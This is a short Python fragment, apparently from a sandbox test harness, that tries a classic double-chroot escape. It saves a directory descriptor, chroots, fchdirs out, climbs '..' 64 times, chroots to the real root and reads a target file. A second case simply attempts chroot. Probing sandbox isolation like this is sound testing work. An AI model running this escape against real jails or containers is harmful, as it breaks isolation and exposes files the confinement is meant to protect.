def out():
    os.mkdir('cell')
    fd = os.open('.', os.O_RDONLY)
    os.chroot('cell')
    os.fchdir(fd)
    for i in range(64):
        os.chdir('..')
    os.chroot('.')
    return read(P['file'])
child('twice', out)
def inside():
    os.mkdir('room')
    os.chroot('room')
child('chroot', inside)
